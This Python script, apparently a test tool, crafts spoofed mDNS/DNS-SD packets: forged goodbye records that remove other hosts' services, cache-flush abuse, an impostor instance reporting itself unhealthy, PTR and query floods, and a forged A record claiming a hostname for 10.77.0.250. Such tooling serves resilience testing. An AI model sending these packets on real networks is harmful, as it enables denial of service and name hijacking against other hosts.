# SPDX-License-Identifier: Apache-2.0
"""liar.py KIND ADDRESS WORD...: what a neighbour with bad intentions sends from port 5353 of ADDRESS.

enumeration-goodbye TYPE         TYPE is no longer enumerated
instance-goodbye TYPE LABEL      the instance LABEL.TYPE, which is another host's, is gone
flush-shared TYPE                an instance of its own, as if a PTR could be only one
twin TYPE LABEL HOST             an instance on HOST's address and port 8000 that says it is not healthy
pointers TYPE COUNT              COUNT instances of which there is no more than the pointer
questions TYPE COUNT             a datagram with the same question COUNT times, 20 times
claim-host NAME                  NAME is at 10.77.0.250
"""

import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

from flood import A, GROUP, PTR, QUERY, RESPONSE, SRV, TXT, header, name, record  # noqa: E402

FLUSH = 0x8001
ENUMERATION = "_services._dns-sd._udp.local"
BURST = 100


def label_of(text, service):
    return bytes([len(text)]) + text.encode() + name(service)


def texts(*strings):
    return b"".join(bytes([len(text)]) + text.encode() for text in strings)


def enumeration_goodbye(service):
    yield header(RESPONSE, (0, 1, 0, 0)) + record(name(ENUMERATION), PTR, name(service), ttl=0)


def instance_goodbye(service, label):
    yield header(RESPONSE, (0, 1, 0, 0)) + record(name(service), PTR, label_of(label, service), ttl=0)


def flush_shared(service):
    yield header(RESPONSE, (0, 1, 0, 0)) + record(name(service), PTR, label_of("liar", service), ttl=75, rclass=FLUSH)


def twin(service, label, host):
    own = label_of("twin", service)
    said = texts(f"id={label}", "farp.enabled=true", "farp.status=unhealthy")
    address = socket.inet_aton(host)
    yield (header(RESPONSE, (0, 4, 0, 0)) + record(name(service), PTR, own, ttl=4500)
           + record(own, SRV, struct.pack(">3H", 0, 0, 8000) + name("b.local"), ttl=4500)
           + record(own, TXT, said, ttl=4500) + record(name("b.local"), A, address, ttl=4500))


def pointers(service, count):
    for number in range(int(count)):
        yield header(RESPONSE, (0, 1, 0, 0)) + record(name(service), PTR, label_of(f"p{number}", service), ttl=4500)


def questions(service, count):
    question = name(service) + struct.pack(">2H", PTR, 1)
    for _ in range(20):
        yield header(QUERY, (int(count), 0, 0, 0)) + question * int(count)


def claim_host(host):
    for _ in range(3):
        yield header(RESPONSE, (0, 1, 0, 0)) + record(name(host), A, socket.inet_aton("10.77.0.250"), 120, FLUSH)


KINDS = {
    "enumeration-goodbye": enumeration_goodbye, "instance-goodbye": instance_goodbye, "flush-shared": flush_shared,
    "twin": twin, "pointers": pointers, "questions": questions, "claim-host": claim_host,
}


def main():
    kind, address, words = sys.argv[1], sys.argv[2], sys.argv[3:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        sock.bind(("", GROUP[1]))
        for number, message in enumerate(KINDS[kind](*words), 1):
            sock.sendto(message, GROUP)
            if number % BURST == 0:
                time.sleep(0.01)  # what a link carries, rather than what a buffer drops


if __name__ == "__main__":
    main()
